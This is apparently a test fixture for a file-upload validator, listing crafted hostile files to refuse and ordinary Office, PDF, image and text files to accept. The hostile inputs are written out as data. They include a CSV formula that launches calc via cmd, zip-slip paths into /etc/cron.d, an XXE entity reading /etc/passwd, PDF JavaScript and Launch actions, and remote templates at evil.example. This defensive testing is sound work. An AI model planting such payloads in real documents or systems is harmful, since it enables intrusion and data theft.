import { deflateSync } from 'node:zlib';
import { archiveOf } from './archive.ts';
import { jpeg, office, pdf, pdfWithObjects, png, rels, typesOf, webp } from './samples.ts';

/** One hostile or unsound file: what it is, the name it comes with, its bytes. */
export type Hostile = readonly [what: string, name: string, bytes: Buffer];

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes << 20);
const xml = (name: string, bytes: string | Buffer) => ({ name, bytes });
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** Everything here is to be refused. Made in code: nothing of it lies anywhere as a file. */
export const hostile = (): readonly Hostile[] => [
  ['nothing', 'a.pdf', Buffer.alloc(0)],
  ['program', 'a.exe', Buffer.from('MZ\x90\0')],
  ['program called a document', 'a.docx', Buffer.from('MZ\x90\0\x03')],
  ['program of Linux called text', 'a.txt', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ['two endings', 'report.pdf.exe', pdf()],
  ['ending behind a turned direction', 'report\u202Efdp.exe', pdf()],
  ['no ending', 'report', pdf()],
  ['script of the shell as text', 'a.sh', Buffer.from('#!/bin/sh\nid\n')],
  ['page', 'a.html', Buffer.from('<html><script>alert(1)</script>')],
  ['page called text', 'a.txt', Buffer.from(' <!DOCTYPE html><script>alert(1)</script>')],
  ['page called pdf', 'a.pdf', Buffer.from('<html><script>alert(1)</script>')],
  ['drawing with script', 'a.svg', Buffer.from('<svg onload="alert(1)"/>')],
  ['drawing called text', 'a.txt', Buffer.from('<svg onload="alert(1)"/>')],
  ['drawing called picture', 'a.png', Buffer.from('<svg onload="alert(1)"/>')],
  ['text with NUL', 'a.txt', Buffer.from('a\0b')],
  ['bytes as text', 'a.txt', Buffer.from([0x41, 0xff, 0xff, 0xfe, 0x80])],
  ['table that starts a program', 'a.csv', Buffer.from('a,b\n1,"=cmd|\'/C calc\'!A0"\n')],
  ['archive', 'a.zip', archiveOf([xml('a.txt', 'x')])],
  ['archive called document', 'a.docx', archiveOf([xml('a.txt', 'x')])],
  ['old office document', 'a.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ['old office document called new', 'a.docx', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  [
    'document with a password',
    'a.docx',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
  ],
  ['workbook called document', 'a.docx', office('xlsx')],
  ['cut off', 'a.docx', office('docx').subarray(0, 200)],
  ['two lists of types', 'a.docx', office('docx', typesOf('docx'))],
  ['two names but for the case', 'a.docx', office('docx', xml('WORD/document.xml', '<a/>'))],
  ['zip slip', 'a.docx', office('docx', xml('../../etc/cron.d/x', 'x'))],
  ['absolute path', 'a.docx', office('docx', xml('/etc/passwd', 'x'))],
  ['path of Windows', 'a.docx', office('docx', xml('word\\..\\x.xml', 'x'))],
  ['drive of Windows', 'a.docx', office('docx', xml('C:/x.xml', 'x'))],
  ['symbolic link', 'a.docx', office('docx', { name: 'word/x', bytes: '/etc/passwd', unixMode: 0o120_777 })],
  ['encrypted part', 'a.docx', office('docx', { name: 'word/x.xml', bytes: 'x', flag: 1 })],
  ['part that unpacks to too much', 'a.docx', office('docx', xml('word/x.xml', zeros(40)))],
  [
    'part that unpacks to more than it says',
    'a.docx',
    office('docx', { name: 'word/x.xml', bytes: zeros(1), told: 10 }),
  ],
  ['part that unpacks to less than it says', 'a.docx', office('docx', { name: 'word/x.xml', bytes: 'x', told: 1000 })],
  [
    'too many parts',
    'a.docx',
    office('docx', ...Array.from({ length: 5001 }, (_, i) => ({ name: `word/${i}`, bytes: '', stored: true }))),
  ],
  [
    'archive in the document',
    'a.docx',
    office('docx', { name: 'word/media/x.bin', bytes: archiveOf([xml('a', 'x')]), stored: true }),
  ],
  ['packed in the document', 'a.docx', office('docx', xml('word/media/x', Buffer.from('1f8b0800', 'hex')))],
  ['program in the document', 'a.docx', office('docx', xml('word/media/image1.png', 'MZ\x90'))],
  ['pdf in the document', 'a.docx', office('docx', xml('word/media/x', '%PDF-1.7'))],
  [
    'embedded program object',
    'a.docx',
    office(
      'docx',
      xml(
        'word/embeddings/oleObject1.bin',
        Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('\x01Ole10Native', 'utf16le')]),
      ),
    ),
  ],
  ['embedded something', 'a.docx', office('docx', xml('word/embeddings/x.bin', 'something'))],
  [
    'embedded workbook with macros',
    'a.docx',
    office('docx', {
      name: 'word/embeddings/x.xlsx',
      bytes: office('xlsx', xml('xl/vbaProject.bin', 'x')),
      stored: true,
    }),
  ],
  [
    'embedded in the embedded',
    'a.docx',
    office('docx', {
      name: 'word/embeddings/x.xlsx',
      bytes: office('xlsx', { name: 'xl/embeddings/y.docx', bytes: office('docx'), stored: true }),
      stored: true,
    }),
  ],
  ['macros', 'a.docx', office('docx', xml('word/vbaProject.bin', 'x'))],
  [
    'macros by their type',
    'a.docx',
    archiveOf([
      typesOf('docx', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      xml('word/document.xml', '<x/>'),
    ]),
  ],
  ['macro sheet', 'a.xlsx', office('xlsx', xml('xl/macrosheets/sheet1.xml', '<x/>'))],
  ['control of ActiveX', 'a.docx', office('docx', xml('word/activeX/activeX1.bin', 'x'))],
  [
    'entity from outside',
    'a.docx',
    office('docx', xml('word/x.xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
  ],
  [
    'entity in UTF-16',
    'a.docx',
    office('docx', xml('word/x.xml', Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY e "e">]><x/>', 'utf16le'))),
  ],
  [
    'entity in the links',
    'a.xlsx',
    office('xlsx', xml('xl/_rels/workbook.xml.rels', '<!DOCTYPE x []><Relationships/>')),
  ],
  [
    'sheet in UTF-7',
    'a.xlsx',
    office('xlsx', xml('xl/x.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE')),
  ],
  ['template from outside', 'a.docx', office('docx', rels('attachedTemplate', 'https://evil.example/t.dotm'))],
  ['picture from a share', 'a.docx', office('docx', rels('image', '\\\\evil.example\\share\\x.png'))],
  ['link to a file', 'a.docx', office('docx', rels('hyperlink', 'file:///C:/Windows/x.exe'))],
  ['link to a file, written in entities', 'a.docx', office('docx', rels('hyperlink', '&#x66;ile:///C:/x'))],
  ['link to a share without the mark', 'a.docx', office('docx', rels('hyperlink', '//evil.example/x', ''))],
  ['link that is a script', 'a.docx', office('docx', rels('hyperlink', 'javascript:alert(1)'))],
  [
    'workbook from outside',
    'a.xlsx',
    office(
      'xlsx',
      rels('externalLinkPath', 'https://evil.example/b.xlsx', undefined, 'xl/externalLinks/_rels/l.xml.rels'),
    ),
  ],
  [
    'link that starts a program',
    'a.xlsx',
    office('xlsx', xml('xl/externalLinks/l.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
  ],
  ['drawing with script in the document', 'a.pptx', office('pptx', xml('ppt/media/x.svg', '<svg onload="alert(1)"/>'))],
  ['pdf with script', 'a.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['pdf with script, written in escapes', 'a.pdf', pdf('/OpenAction << /S /#4aava#53cript /JS (x) >>')],
  ['pdf with script in an object stream', 'a.pdf', pdfWithObjects('<< /S /JavaScript /JS (x) >>')],
  [
    'the same under an escaped name',
    'a.pdf',
    pdfWithObjects('<< /S /JavaScript >>', '/Fl#61teDecode', deflateSync, '/Obj#53tm'),
  ],
  [
    'pdf with an object stream packed twice',
    'a.pdf',
    pdfWithObjects('<< /S /JavaScript >>', '[/FlateDecode /FlateDecode]', (it) => deflateSync(deflateSync(it))),
  ],
  ['pdf that starts a program', 'a.pdf', pdf('/A << /S /Launch /F (cmd.exe) >>')],
  ['pdf with an attachment', 'a.pdf', pdf('/Names << /EmbeddedFiles 3 0 R >>')],
  ['pdf with a form that runs', 'a.pdf', pdf('/AcroForm << /XFA 5 0 R >>')],
  ['pdf that is protected', 'a.pdf', pdf('/Encrypt 6 0 R')],
  ['pdf with a page behind', 'a.pdf', pdf('', '<html><script>alert(1)</script>')],
  ['pdf with an archive behind', 'a.pdf', pdf('', archiveOf([xml('a.js', 'x'.repeat(3000))]).toString('latin1'))],
  ['pdf with something in front', 'a.pdf', Buffer.concat([Buffer.from('<html>'), pdf()])],
  ['pdf without an end', 'a.pdf', Buffer.from('%PDF-1.7\n1 0 obj\n')],
  ['pdf whose objects unpack to too much', 'a.pdf', pdfWithObjects('x'.repeat(40 << 20))],
  ['picture with too many pixels', 'a.png', png(40_000, 40_000)],
  ['picture with too many pixels', 'a.jpg', jpeg(20_000, 20_000)],
  ['picture with too many pixels', 'a.webp', webp(1 << 24, 1 << 24)],
  ['picture of no size', 'a.png', png(0, 10)],
  ['picture with a page behind', 'a.png', Buffer.concat([png(), Buffer.from('<script>alert(1)</script>')])],
  ['picture with an archive behind', 'a.webp', Buffer.concat([webp(), archiveOf([xml('a', 'x')])])],
  ['picture cut off', 'a.png', png().subarray(0, 40)],
  ['picture cut off', 'a.jpg', jpeg().subarray(0, 12)],
  ['picture of another kind', 'a.gif', Buffer.from('GIF89a\x02\0\x02\0')],
  ['picture called another', 'a.jpg', png()],
  ['test of the virus check called a program', 'a.com', Buffer.from(eicar)],
];

/** What people send: all of it is to be taken. */
export const harmless = (): readonly Hostile[] => [
  ['pdf', 'a.pdf', pdf()],
  ['pdf of today', 'a.PDF', pdfWithObjects('<< /Type /Page /JS 1 >>')],
  ['document', 'a.docx', office('docx')],
  ['document with a link', 'a.docx', office('docx', rels('hyperlink', 'https://www.example.gov.cn/?a=1&amp;b=2'))],
  ['document with a mail address', 'a.docx', office('docx', rels('hyperlink', 'mailto:office@example.cn'))],
  [
    'document with a chart',
    'a.docx',
    office('docx', { name: 'word/embeddings/chart.xlsx', bytes: office('xlsx'), stored: true }),
  ],
  [
    'document with a formula object',
    'a.docx',
    office(
      'docx',
      xml(
        'word/embeddings/oleObject1.bin',
        Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('Equation Native', 'utf16le')]),
      ),
    ),
  ],
  ['workbook', 'a.xlsx', office('xlsx', rels('worksheet', 'worksheets/sheet1.xml', '', 'xl/_rels/workbook.xml.rels'))],
  ['slides', 'a.pptx', office('pptx', rels('slide', '/ppt/slides/slide1.xml', '', 'ppt/_rels/presentation.xml.rels'))],
  ['picture', 'a.png', png()],
  ['photograph', 'a.jpeg', jpeg(8000, 6000)],
  ['picture', 'a.webp', webp()],
  ['text', 'a.txt', Buffer.from('质量奖申报说明\r\n')],
  ['text in GB18030', 'a.txt', Buffer.from([0xd6, 0xca, 0xc1, 0xbf, 0x0a])],
  ['table', 'a.csv', Buffer.from('\ufeff年份,数值\n2025,-3.5\n')],
];
